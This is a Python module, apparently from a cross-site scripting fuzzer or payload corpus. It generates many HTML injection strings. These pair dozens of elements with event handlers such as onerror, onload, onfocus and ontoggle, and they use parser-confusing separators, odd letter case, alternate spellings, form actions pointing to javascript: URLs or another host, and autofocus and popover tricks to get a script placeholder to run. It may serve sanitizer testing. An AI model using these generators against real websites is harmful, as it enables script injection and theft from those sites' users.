"""Scripts in the handlers of elements, and all that may stand between a tag and its handler."""

from .words import RUN, quoted, spellings

ELEMENTS = (
    "<img src=x {}>", "<image src=x {}>", "<svg {}>", "<svg><circle r=9 {} /></svg>",
    "<math><mi {}>x</mi></math>", "<body {}>", "<frameset {}>", "<video src=x {}></video>",
    "<video><source src=x {}></video>", "<audio src=x {}></audio>", "<iframe {}></iframe>",
    "<object data=x {}></object>", "<embed src=x {}>", "<link rel=stylesheet href=x {}>",
    "<script src=x {}></script>", "<style {}>p{{}}</style>", "<marquee {}>x</marquee>",
    "<details open {}><summary>x</summary></details>", "<input autofocus {}>",
    "<select autofocus {}></select>", "<textarea autofocus {}></textarea>",
    "<button autofocus {}>x</button>", "<form {}><input></form>", "<dialog open {}>x</dialog>",
    "<p {}>x</p>", "<h2 {}>x</h2>", "<ul {}><li>x</ul>", "<ol><li {}>x</ol>", "<a href=/ {}>x</a>",
    "<blockquote {}>x</blockquote>", "<table {}><tr><td>x</table>",
    "<table><caption {}>x</caption></table>", "<table><tr><th {}>x</table>",
    "<strong {}>x</strong>", "<br {}>", "<hr {}>", "<span tabindex=1 {}>x</span>",
    "<x-card contenteditable {}>x</x-card>",
)  # fmt: skip
EVENTS = (
    "onload", "onerror", "onfocus", "onclick", "onmouseover", "onpointerenter", "ontoggle",
    "onanimationstart", "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange",
    "onwebkittransitionend",
)  # fmt: skip
GAPS = (
    "/", "//", "\t", "\n", "\r", "\f", "\v", "\0", " / ", "/a=b/", " ==", " '", ' x="', "&Tab;",
)  # fmt: skip
CARRIERS = (
    '<img src=x onerror="{}">', "<svg onload='{}'>", '<p onclick="{}">x</p>',
    '<details open ontoggle="{}">x</details>',
)  # fmt: skip
BUTTONS = ("<button>Send</button>", "<input type=submit>", "<input type=image src=/x>")
TARGETS = (f"javascript:{RUN}", "https://elsewhere.example/form", "//elsewhere.example/form")
INPUTS = ("hidden", "text", "search", "image", "date", "color", "range", "file")


def handlers():
    for row, element in enumerate(ELEMENTS):
        for column, event in enumerate(EVENTS):
            yield element.format(f"{event}={quoted(row + column, RUN)}")


def separators():
    """What parsers take for the blank before a handler, or did once."""
    for tag in ("img src=x", "svg", "p", "input autofocus"):
        for number, gap in enumerate(GAPS):
            yield f"<{tag}{gap}onerror={quoted(number, RUN)} onload{gap}={RUN}>"
            yield f"<{tag.upper()}{gap}OnErRoR={quoted(number + 1, RUN)} ONLOAD={RUN}>"


def spelled_handlers():
    for carrier in CARRIERS:
        for spelling in spellings(RUN):
            yield carrier.format(spelling)


def forms():
    """Forms that run or send something, with buttons inside and outside of them."""
    for target in TARGETS:
        for button in BUTTONS:
            yield f'<form action="{target}">{button}</form>'
            yield f"<form id=f></form>{button.replace('>', f' form=f formaction={target}>', 1)}"
        yield f'<form action="{target}"><input name=a><input name=a></form><p>x</form>'
        yield f'<isindex type=submit action="{target}" prompt=x>'
        yield f'<form><keygen autofocus onfocus={RUN}><button formaction="{target}">x'


def inputs():
    for kind in INPUTS:
        yield f'<input type={kind} autofocus onfocus="{RUN}" onclick={RUN} src=x onerror={RUN}>'
        yield f"<label for=a onclick={RUN}><input type={kind} id=a oncancel={RUN}></label>"


def popovers():
    for event in ("onbeforetoggle", "ontoggle"):
        for button in ("button", "input type=button"):
            yield f'<{button} popovertarget=x>Open</button><p popover id=x {event}="{RUN}">x</p>'
            yield f"<{button} commandfor=x command=show-modal><dialog id=x {event}={RUN}>x"
